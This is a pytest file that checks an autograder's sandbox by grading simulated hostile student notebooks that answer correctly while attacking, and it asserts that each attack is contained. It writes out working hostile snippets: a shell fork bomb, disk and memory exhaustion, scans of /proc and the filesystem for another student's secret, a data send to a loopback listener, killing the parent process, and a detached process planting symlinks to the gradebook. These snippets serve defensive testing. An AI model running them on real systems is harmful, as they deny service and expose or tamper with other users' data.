"""Hostile students against the sandbox (grader.grading.isolation.sandbox), end to end.

Each hostile student's answer cell for ``model_inputs`` is correct *and* attacks: the attack
runs once per process: at the end of the cell in nbgrader's kernel, where it prints what it
found, and in the clean room on the first call of ``model_inputs``. One class is graded by the
local pool and once more on a Dask cluster of two worker processes; every test asserts on both:

* nothing reaches a listener that this test runs on 127.0.0.1;
* no foreign data (another process's command line, another student's secret) shows in the
  student's executed notebook or feedback;
* the byte and file caps of the student's home hold (ENOSPC);
* killing its parent process hurts nobody;
* no inherited file descriptor or socket name shows a host path;
* memory held as memfd and in /dev/shm counts against the cgroup's cap, and a fork bomb stops
  at its pids cap: that notebook scores 0 with the reason, the student's next notebook and
  every other student are unaffected;
* a process whose leader has exited (pthread_exit) while its thread plants symlinks to the
  template gradebook does not outlive its notebook, and nobody's grades change;
* every other hostile student still scores full marks, the control student is unaffected, no
  process of a student uid (or of the grader's helpers) outlives the batch, and no cgroup of
  the batch is left.
"""
import os
import re
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time

import psutil
import pytest

from grader.grading import demo
from grader.grading.batch import autograde
from grader.grading.isolation import sandbox

pytestmark = [pytest.mark.slow, pytest.mark.skipif(sandbox.containment_problem() is not None,
                                                   reason=f"no sandbox here: {sandbox.containment_problem()}")]
INPUTS, GENERATOR = "01_model_inputs", "02_generator"
SECRET = "gan-secret-" + secrets.token_hex(8)  # in the victim's notebook and in a process's command line
FIRST_STUDENT_UID = 1_000_000  # the batch's uids are random above this

ATTACKS = {
    "network": '''
def attack():
    import socket
    for port in PORTS:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=2) as connection:
                connection.sendall(b"stolen answers from the sandbox")
            print("CONNECTED", port)
        except OSError as error:
            print("NO CONNECTION", port, type(error).__name__)
''',
    "processes": '''
def attack():
    import os
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                print("PROCESS", pid, open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" ")[:300])
            except OSError as error:
                print("UNREADABLE", pid, type(error).__name__)
    import socket
    for fd in sorted(int(name) for name in os.listdir("/proc/self/fd")):
        try:
            print("FD", fd, os.readlink(f"/proc/self/fd/{fd}"))
            with socket.socket(fileno=os.dup(fd)) as inherited:
                print("SOCKET", fd, inherited.getsockname(), inherited.getpeername())
        except OSError as error:
            print("NOT A CONNECTED SOCKET", fd, type(error).__name__)
''',
    "disk": '''
def attack():
    import errno, os
    written = 0
    try:
        with open("big.bin", "wb") as handle:
            for _ in range(2048):
                handle.write(b"x" * 2**20)
                written += 1
    except OSError as error:
        print("BYTES STOPPED", written, "MiB", errno.errorcode.get(error.errno))
    os.makedirs("many", exist_ok=True)
    made = 0
    try:
        for index in range(100_000):
            open(f"many/{index}", "w").close()
            made += 1
    except OSError as error:
        print("FILES STOPPED", made, errno.errorcode.get(error.errno))
    try:
        os.remove("big.bin")
    except OSError:
        pass
''',
    "secret": '''
def attack():
    import os
    found, looked = [], 0
    for top, folders, files in os.walk("/"):
        folders[:] = [f for f in folders if os.path.join(top, f) not in ("/proc", "/sys", "/dev", "/usr")]
        for name in files:
            if name.endswith((".ipynb", ".json", ".html", ".db", ".pickle", ".csv", ".txt", ".log")):
                looked += 1
                try:
                    with open(os.path.join(top, name), "rb") as handle:
                        data = handle.read(5_000_000)
                except OSError:
                    continue
                at = data.find(b"gan-secret-")
                if at >= 0:
                    found.append((os.path.join(top, name), data[at:at + 30]))
    print("LOOKED AT", looked, "FILES; FOUND", found)
''',
    "kill_parent": '''
def attack():
    import os, signal
    print("KILLING PARENT", os.getppid())
    os.kill(os.getppid(), signal.SIGKILL)
''',
    "memory": '''
def attack():
    import mmap, os
    with open("/dev/shm/held", "wb") as handle:
        for _ in range(400):
            handle.write(b"x" * 2**20)
    print("SHM HELD 400 MiB", flush=True)
    held = []
    for index in range(9):
        fd = os.memfd_create("held")
        os.ftruncate(fd, 200 * 2**20)
        region = mmap.mmap(fd, 200 * 2**20)
        region.write(b"x" * 200 * 2**20)
        held.append(region)
        print("MEMFD HELD", (index + 1) * 200, "MiB", flush=True)
''',
    "forkbomb": '''
def attack():
    import subprocess, time
    subprocess.Popen(["/bin/sh", "-c", "bomb() { bomb & bomb; }; bomb"], stderr=subprocess.DEVNULL)
    print("FORK BOMB STARTED", flush=True)
    time.sleep(3600)
''',
    "survivor": '''
def attack():
    import ctypes, os, threading, time
    if os.fork():
        time.sleep(1)
        print("SURVIVOR STARTED", flush=True)
        return
    os.setsid()
    def plant():
        ctypes.CDLL(None).prctl(15, b"gan-survivor", 0, 0, 0)  # PR_SET_NAME
        held = bytearray(200 * 2**20)
        for index in range(0, len(held), 4096):
            held[index] = 1
        home = os.path.expanduser("~")
        template = "../../../../template/gradebook.db"  # from the area's run/ to the batch's template
        while True:
            for link, target in (("run/kernel-connection.json", template), ("work/02_generator.ipynb", template),
                                 ("shm", "../../../../template")):
                path = os.path.join(home, link)
                try:
                    if os.path.isdir(path) and not os.path.islink(path):
                        os.rename(path, path + "-moved")
                    elif os.path.lexists(path):
                        os.unlink(path)
                    os.symlink(target, path)
                except OSError:
                    pass
            time.sleep(0.02)
    threading.Thread(target=plant).start()
    time.sleep(0.5)
    ctypes.CDLL(None).pthread_exit(None)
''',
}
LIMITED = {"memory": "used more than 1500 MiB of memory", "forkbomb": "more than 1024 processes and threads"}
FIND_SURVIVORS = '''
import os as _os
_found = []
for _pid in _os.listdir("/proc"):
    try:
        if _pid.isdigit() and open(f"/proc/{_pid}/comm").read().strip() == "gan-survivor":
            _found.append(_pid)
    except OSError:
        pass
print("SURVIVORS", _found)
'''


ONCE = '''
ATTACKED = []


def attack_once():
    if not ATTACKED:
        ATTACKED.append(True)
        attack()
'''


def hostile_answer(correct, attack, ports):
    """The correct ``model_inputs`` and ``attack``, run once per process: at the end of the cell
    in nbgrader's kernel, and on the first call of ``model_inputs`` in the clean room."""
    calls_attack = correct.replace("def model_inputs(real_dim, z_dim):",
                                   "def model_inputs(real_dim, z_dim):\n    attack_once()", 1)
    assert calls_attack != correct
    return f"PORTS = {list(ports)!r}\n{attack}\n{ONCE}\n{calls_attack}\nattack_once()\n"


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection and every byte sent to it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received = []
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                connection, peer = self.server.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    self.received.append((peer, connection.recv(4096)))
                except OSError:
                    self.received.append((peer, b""))


def write_class(submitted, answers, ports):
    correct = answers[INPUTS]["model_inputs"]
    both = {INPUTS: answers[INPUTS], GENERATOR: answers[GENERATOR]}
    demo.write_submission(submitted, "control", both, notebooks=[INPUTS, GENERATOR])
    victim = {INPUTS: {"model_inputs": f"# {SECRET}\n{correct}"}}
    demo.write_submission(submitted, "victim", victim, notebooks=[INPUTS])
    for name, attack in ATTACKS.items():
        hostile = {**both, INPUTS: {"model_inputs": hostile_answer(correct, attack, ports)}}
        if name == "survivor":  # its next notebook looks for the process left by the first
            hostile[GENERATOR] = {**both[GENERATOR], "generator": both[GENERATOR]["generator"] + FIND_SURVIVORS}
        demo.write_submission(submitted, name, hostile, notebooks=[INPUTS, GENERATOR])


def student_processes(since, work):
    """Processes started after ``since`` of a student uid that run this checkout's Python (or the
    fork bomb's shell), and the grader's per-student helpers whose command line names ``work``,
    the batch's work folder: other courses' batches may be running on this machine."""
    found = []
    for process in psutil.process_iter(["uids", "cmdline", "create_time"]):
        try:
            if process.info["create_time"] < since:
                continue
            command = " ".join(process.info["cmdline"] or [])
            ours = (command.startswith(sys.executable) or "bomb()" in command) and not in_running_batch(process.pid)
            if (process.info["uids"].real >= FIRST_STUDENT_UID and ours) or (
                    "grader.grading." in command and process.pid != os.getpid() and work in command
                    and any(m in command for m in ("zygote", "launcher", "grader.grading.worker"))):
                found.append(f"{process.pid} uid {process.info['uids'].real} ({process.status()}): {command[:120]}")
        except (psutil.Error, TypeError):
            continue
    return found


def in_running_batch(pid):
    """True when ``pid`` is in the cgroup of a grading process that still runs: another batch's
    (this test's batch has ended when it looks; a process of it that escaped would be elsewhere)."""
    from grader.grading.isolation import cgroups

    try:
        with open(f"/proc/{pid}/cgroup") as handle:
            text = handle.read()
    except OSError:
        return False
    owners = {int(m) for m in re.findall(r"/gan-grader-(\d+)-[0-9a-f]+", text)}
    return any(cgroups.alive(owner) for owner in owners)


def processes_left(since, work, grace=15):
    """What :func:`student_processes` still finds once ``grace`` seconds have passed: a killed
    TensorFlow process stays a zombie for a moment while the kernel frees its memory."""
    deadline = time.monotonic() + grace
    while (left := student_processes(since, work)) and time.monotonic() < deadline:
        time.sleep(0.2)
    return left


def batch_cgroups(before=()):
    """The grader's cgroup subtrees under this test process's own cgroups whose grading process is
    gone, but those in ``before`` (a live one is another batch's: pids and freezer may be shared)."""
    from grader.grading.isolation import cgroups

    try:
        _, own = cgroups.own_cgroups()
    except cgroups.CgroupError:
        return []
    return sorted({os.path.join(folder, entry) for folder in own.values() for entry in os.listdir(folder)
                   if cgroups.NAME.match(entry) and not cgroups.alive(int(entry.split("-")[2]))} - set(before))


def grade_on_dask(submitted, out, work):
    from distributed import LocalCluster

    from grader.grading import cluster

    with LocalCluster(n_workers=2, threads_per_worker=1, processes=True, host="127.0.0.1",
                      dashboard_address=None) as local:
        return cluster.autograde_on_cluster(submitted, out, local.scheduler_address, timeout=40,
                                            notebook_limit=150, memory_mb=1500, work_dir=str(work))


@pytest.fixture(scope="module", params=["pool", "dask"])
def graded(request, tmp_path_factory):
    folder = tmp_path_factory.mktemp(f"hostile-{request.param}")
    started = time.time()
    before = batch_cgroups()
    listener = Listener()
    secret_process = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", SECRET])
    answers = demo.reference_answers()
    write_class(folder / "submitted", answers, [listener.port])
    # the batch's own work folder, named in its helpers' command lines; short, since the Unix
    # sockets below it (the zygote's, the kernel's) must stay within 107 bytes
    work = tempfile.mkdtemp(prefix="h", dir="/tmp")
    try:
        if request.param == "pool":
            report = autograde(folder / "submitted", folder / "out", workers=2, timeout=40, notebook_limit=150,
                               memory_mb=1500, work_dir=work)
        else:
            report = grade_on_dask(folder / "submitted", folder / "out", work)
        left = processes_left(started, work)
        cgroups_left = batch_cgroups(before)
    finally:
        secret_process.kill()
        listener.server.close()
        shutil.rmtree(work, ignore_errors=True)
    return {"report": report, "out": folder / "out", "received": listener.received, "left": left,
            "port": listener.port, "cgroups_left": cgroups_left}


def outputs_of(graded, student_id, notebook=INPUTS):
    """The executed notebook and the feedback page of one student, as text."""
    out = graded["out"]
    executed = (out / "autograded" / student_id / "gan" / f"{notebook}.ipynb").read_text()
    feedback = (out / "feedback" / student_id / "gan" / f"{notebook}.html").read_text()
    return executed + feedback


def printed(graded, student_id, notebook=INPUTS):
    """What the student's cells printed in nbgrader's run."""
    import nbformat

    path = graded["out"] / "autograded" / student_id / "gan" / f"{notebook}.ipynb"
    cells = nbformat.read(str(path), as_version=4).cells
    return "".join(output.get("text", "") for cell in cells if cell.cell_type == "code" for output in cell.outputs)


def score(graded, student_id, notebook):
    student = next(s for s in graded["report"]["students"] if s.student_id == student_id)
    return sum(test.score for test in student.notebooks[notebook].tests.values())


def test_every_hostile_student_scores_full_marks_and_the_control_is_unaffected(graded):
    wrong = []
    for student_id in ["control", *ATTACKS]:
        for notebook, points in ((INPUTS, 0 if student_id in LIMITED else 3), (GENERATOR, 7)):
            if score(graded, student_id, notebook) != points:
                wrong.append(f"{student_id}/{notebook}: {score(graded, student_id, notebook)} instead of {points}")
    assert score(graded, "victim", INPUTS) == 3
    assert not wrong, wrong
    assert not graded["report"]["isolation_notes"], graded["report"]["isolation_notes"]
    out = graded["out"]
    assert (out / "grades.csv").is_file() and (out / "gradebook.db").is_file(), "the batch ended without grades"


def test_nothing_reaches_a_listener_on_the_loopback(graded):
    assert graded["received"] == []
    text = printed(graded, "network")
    assert f"NO CONNECTION {graded['port']}" in text and f"\nCONNECTED {graded['port']}" not in "\n" + text


def test_other_processes_are_invisible(graded):
    assert "PROCESS" in printed(graded, "processes")
    text = outputs_of(graded, "processes")
    assert SECRET not in text, "another process's command line was readable from the sandbox"
    assert "pytest" not in text and "grader.grading.worker" not in text


def test_no_inherited_descriptor_or_socket_name_shows_a_host_path(graded):
    text = printed(graded, "processes")
    assert "FD 0" in text and "SOCKET" in text, f"expected the kernel's descriptors to be listed, found {text[-500:]!r}"
    for host in ("gan-grading-", "student-0", "/sandbox/control", str(graded["out"].parent)):
        assert host not in text, f"a descriptor or socket name in the kernel shows the host path {host!r}"
    assert "/proc/self/fd/" in text, "expected the zygote's connection to be named /proc/self/fd/N/zygote.sock"


def test_hitting_a_kernel_enforced_cap_costs_that_notebook_only(graded):
    text = printed(graded, "memory")
    assert "MEMFD HELD 1800 MiB" not in text, "memfd and /dev/shm together held more than the 1500 MiB cap"
    for student_id, reason in LIMITED.items():
        student = next(s for s in graded["report"]["students"] if s.student_id == student_id)
        problems = student.notebooks[INPUTS].problems
        assert any(reason in problem for problem in problems), (
            f"expected {student_id}'s problems to say {reason!r}, found {problems}")
        assert score(graded, student_id, GENERATOR) == 7, f"{student_id}'s next notebook lost marks"


def test_a_survivor_with_an_exited_leader_dies_with_its_notebook_and_the_template_holds(graded):
    assert "SURVIVOR STARTED" in printed(graded, "survivor"), "the survivor attack did not run"
    text = printed(graded, "survivor", GENERATOR)
    assert "SURVIVORS []" in text, f"a process of the first notebook was alive in the next one: {text[-300:]!r}"
    for student_id in ("control", "victim", *ATTACKS):
        student = next(s for s in graded["report"]["students"] if s.student_id == student_id)
        assert not student.internal_error, f"{student_id}: {student.internal_error}"
        assert not any("database" in p for r in student.notebooks.values() for p in r.problems), student_id


def test_the_home_is_capped_in_bytes_and_in_files(graded):
    text = printed(graded, "disk")
    assert "BYTES STOPPED" in text and "ENOSPC" in text
    made = int(text.split("FILES STOPPED ")[1].split()[0])
    assert made < 100_000 and "FILES STOPPED" in text


def test_another_students_notebook_is_nowhere_to_be_found(graded):
    assert "LOOKED AT" in printed(graded, "secret")
    text = outputs_of(graded, "secret")
    assert SECRET not in text


def test_killing_the_parent_harms_nothing(graded):
    assert "KILLING PARENT" in printed(graded, "kill_parent")
    student = next(s for s in graded["report"]["students"] if s.student_id == "kill_parent")
    assert not student.internal_error


def test_no_student_process_outlives_the_batch(graded):
    assert graded["left"] == []


def test_no_cgroup_of_the_batch_is_left(graded):
    assert graded["cgroups_left"] == [], f"cgroups left by the batch: {graded['cgroups_left']}"
